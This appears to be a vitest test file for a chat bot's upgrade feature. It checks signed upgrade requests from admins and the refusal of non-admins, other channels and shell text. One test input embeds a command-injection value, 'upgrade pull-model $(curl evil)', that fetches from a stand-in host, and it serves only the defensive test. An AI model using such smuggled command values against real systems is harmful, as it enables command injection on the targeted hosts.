import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { stewardUpgradeDesk } from '../../../src/core/bot/upgrade-desk.ts';
import type { Send } from '../../../src/core/protocol.ts';
import { replyToPlainText } from '../../support/reply-text.ts';
import { readUpgradeRequestFile, upgradeLayout } from '../../../src/core/upgrade/index.ts';
import { openTestCore } from '../../support/core.ts';
import { REPO_ROOT } from '../../support/run-batos.ts';
import { tempDir } from '../../support/temp.ts';

const KEY = 'k'.repeat(32);
const adminInAdminChannel: Partial<Send> = {
  platform: 'slack',
  sender: { id: 'U1', name: 'ada', isAdmin: true },
  channel: 'C-admin',
  thread: '171.2',
  adminChannel: true,
};

async function coreWithDesk() {
  const upgradeDir = tempDir();
  const core = await openTestCore({
    bot: { upgrades: stewardUpgradeDesk({ appDir: REPO_ROOT, upgradeDir, key: KEY }) },
  });
  return { core, requests: upgradeLayout(upgradeDir).requests };
}

describe('upgrade requests from chat', () => {
  it('an admin in the admin channel files a signed request naming allow-listed steps', async () => {
    const { core, requests } = await coreWithDesk();
    const reply = await core.say('upgrade --dry-run', adminInAdminChannel);
    expect(replyToPlainText(reply)).toMatch(
      /^Upgrade u-[0-9a-f]{6} dry run requested: git-pull, npm-ci, build, migrate\./,
    );
    const [file] = readdirSync(requests);
    const read = await readUpgradeRequestFile(join(requests, file!), KEY);
    expect(read.ok).toBe(true);
    if (read.ok) {
      expect(read.request).toMatchObject({
        dryRun: true,
        requester: { platform: 'slack', id: 'U1', name: 'ada' },
        reportTo: { platform: 'slack', channel: 'C-admin', thread: '171.2' },
      });
      expect(read.request.fromVersion.revision).toMatch(/^[0-9a-f]{40}$/);
    }
    expect((await readUpgradeRequestFile(join(requests, file!), 'x'.repeat(32))).ok).toBe(false);
  });

  it('refuses shell text, non-admins and other channels, writing nothing', async () => {
    const { core, requests } = await coreWithDesk();
    const shell = await core.say('upgrade pull-model $(curl evil)', adminInAdminChannel);
    expect(shell.status).toBe('error');
    expect(replyToPlainText(shell)).toMatch(/names steps, nothing else/);
    expect(
      (await core.say('upgrade', { ...adminInAdminChannel, adminChannel: false })).status,
    ).toBe('refused');
    expect(
      (
        await core.say('upgrade', {
          ...adminInAdminChannel,
          sender: { id: 'U2', name: 'eve', isAdmin: false },
        })
      ).status,
    ).toBe('refused');
    expect(existsSync(requests) ? readdirSync(requests) : []).toEqual([]);
  });
});
